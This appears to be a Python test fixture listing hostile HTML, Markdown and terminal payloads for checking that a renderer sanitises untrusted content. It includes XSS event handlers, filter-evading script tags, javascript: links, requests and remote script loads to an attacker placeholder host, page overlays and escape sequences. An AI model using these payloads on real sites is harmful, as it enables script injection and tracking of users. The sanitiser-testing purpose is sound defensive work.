"""What hostile text tries in a page: scripts, requests to elsewhere, things laid over the page.

Each has `{beacon}` where an address of the attacker's belongs, and `{mark}` for a script that would set
`window.attacked`. Not here: where they are put (`test_hostile`).
"""

from __future__ import annotations

MARK = "window.attacked=1"

_HANDLERS = (
    '<img src=x onerror="{mark}">',
    "<img src=x onerror={mark}//",
    "<img/src=x/onerror={mark}>",
    '<svg onload="{mark}">',
    "<svg><script>{mark}</script></svg>",
    '<svg><animate onbegin="{mark}" attributeName=x>',
    '<body onload="{mark}">',
    '<details open ontoggle="{mark}">x</details>',
    '<video><source onerror="{mark}"></video>',
    '<audio src=x onerror="{mark}"></audio>',
    '<input autofocus onfocus="{mark}">',
    '<select autofocus onfocus="{mark}">',
    '<textarea autofocus onfocus="{mark}">',
    '<marquee onstart="{mark}">x</marquee>',
    '<div onmouseover="{mark}">hover</div>',
    '<a href="#" onclick="{mark}">click</a>',
    '<button onclick="{mark}">press</button>',
    '<p onpointerenter="{mark}">x</p>',
    '<style onload="{mark}"></style>',
    '<link rel=stylesheet href=x onerror="{mark}">',
    '<object data=x onerror="{mark}">',
    '<iframe onload="{mark}"></iframe>',
    '<math><mtext></p><img src=x onerror="{mark}"></math>',
    '<svg><set attributeName=href onend="{mark}"></svg>',
    '<img srcset="x" onerror="{mark}">',
)
_SCRIPTS = (
    "<script>{mark}</script>",
    "<ScRiPt>{mark}</sCrIpT>",
    "<script src='{beacon}/a.js'></script>",
    "<script type=module>{mark}</script>",
    "<scr<script>ipt>{mark}</scr</script>ipt>",
    "<script\x00>{mark}</script>",
    "<svg><script href='{beacon}/b.js'/></svg>",
    "<noscript><p title='</noscript><img src=x onerror={mark}>'>",
    "<template><script>{mark}</script></template>",
    "<!--><img src=x onerror={mark}>-->",
    "<![CDATA[<script>{mark}</script>]]>",
    "</textarea><script>{mark}</script>",
    "</title><script>{mark}</script>",
    "</pre><script>{mark}</script>",
    "</code></pre><script>{mark}</script>",
    "<xmp><script>{mark}</script></xmp>",
    "<plaintext><script>{mark}</script>",
)
_LINKS = (
    '<a href="javascript:{mark}">click</a>',
    "[click](javascript:{mark})",
    "[click](JaVaScRiPt:{mark})",
    "[click](java&#115;cript:{mark})",
    "[click](&#x6a;avascript:{mark})",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    '<a href="vbscript:{mark}">click</a>',
    '<a href="\tjavascript:{mark}">click</a>',
    "[x]: javascript:{mark}\n\n[click][x]",
    "<javascript:{mark}>",
    '<form action="javascript:{mark}"><button>send</button></form>',
    '<form><button formaction="javascript:{mark}">send</button></form>',
    '<iframe src="javascript:{mark}"></iframe>',
    '<iframe srcdoc="<script>parent.{mark}</script>"></iframe>',
    '<object data="javascript:{mark}"></object>',
    '<embed src="javascript:{mark}">',
    '<base href="javascript:{mark}//">',
    '<meta http-equiv=refresh content="0;javascript:{mark}">',
    '<math href="javascript:{mark}">x</math>',
    '<svg><a xlink:href="javascript:{mark}"><text y=20>x</text></a></svg>',
)
_BEACONS = (
    '<img src="{beacon}/1.png">',
    "![x]({beacon}/2.png)",
    "![x](//{host}/3.png)",
    '<img src="//{host}/4.png">',
    '<img srcset="{beacon}/5.png 2x">',
    '<picture><source srcset="{beacon}/6.png"><img></picture>',
    '<video src="{beacon}/7.mp4" autoplay></video>',
    '<video poster="{beacon}/8.png"></video>',
    '<audio src="{beacon}/9.mp3" autoplay></audio>',
    '<video><source src="{beacon}/10.mp4"></video>',
    '<video><track default src="{beacon}/11.vtt"></video>',
    '<link rel=stylesheet href="{beacon}/12.css">',
    '<link rel=prefetch href="{beacon}/13">',
    '<link rel=preload as=image href="{beacon}/14.png">',
    "<style>@import '{beacon}/15.css';</style>",
    "<style>*{{background:url({beacon}/16.png)}}</style>",
    '<div style="background:url({beacon}/17.png)">x</div>',
    "<div style=\"background-image:url('{beacon}/18.png')\">x</div>",
    '<table background="{beacon}/19.png"><tr><td>x</td></tr></table>',
    '<ul style="list-style-image:url({beacon}/20.png)"><li>x</li></ul>',
    '<iframe src="{beacon}/21.html"></iframe>',
    '<object data="{beacon}/22.svg"></object>',
    '<embed src="{beacon}/23.svg">',
    '<svg><image href="{beacon}/24.png"/></svg>',
    '<svg><use href="{beacon}/25.svg#x"/></svg>',
    '<input type=image src="{beacon}/26.png">',
    '<meta http-equiv=refresh content="0;url={beacon}/27">',
    '<div style="cursor:url({beacon}/28.png),auto">x</div>',
    '<div style="content:url({beacon}/29.png)">x</div>',
    '<body background="{beacon}/30.png">',
    '<img src="\n{beacon}/31.png">',
    "<img src='&#104;ttp://{host}/32.png'>",
    '<a ping="{beacon}/33" href="#">x</a>',
    '<img src="\\\\{host}\\34.png">',
)
_OVERLAYS = (
    '<div style="position:fixed;inset:0;z-index:99999;background:red">over</div>',
    '<a style="position:fixed;top:0;left:0;width:100vw;height:100vh" href="{beacon}">over</a>',
    '<div class="jp-Dialog" style="position:fixed">over</div>',
    '<dialog open style="position:fixed;inset:0">over</dialog>',
)
_CONTROLS = (
    "\x1b]0;title\x07\x1b[2J\x1b[31mred\x1b[0m", "\x1b]8;;javascript:{mark}\x07link\x1b]8;;\x07",
    "\x1b[38;5;196m<img src=x onerror={mark}>\x1b[0m", "\x1b]52;c;ZXZpbA==\x07clip",
    "\x9b31m<script>{mark}</script>",
    "\u202e<script>{mark}</script>\u202c", "\x1b[?1049h\x1b[6n\x1bPq<svg onload={mark}>\x1b\\",
)  # fmt: skip

_ALL = (*_HANDLERS, *_SCRIPTS, *_LINKS, *_BEACONS, *_OVERLAYS, *_CONTROLS)

SHORT_EVERY = 7
"""One in so many stands for the others in the short form."""


def payloads(beacon: str, *, short: bool) -> list[str]:
    """All of them, or some of each kind, made for an attacker at `beacon`."""
    host = beacon.split("//")[1]
    made = [
        text.replace("{{", "{").replace("}}", "}")
        .replace("{mark}", MARK).replace("{beacon}", beacon).replace("{host}", host)
        for text in _ALL
    ]  # fmt: skip
    return made[::SHORT_EVERY] if short else made
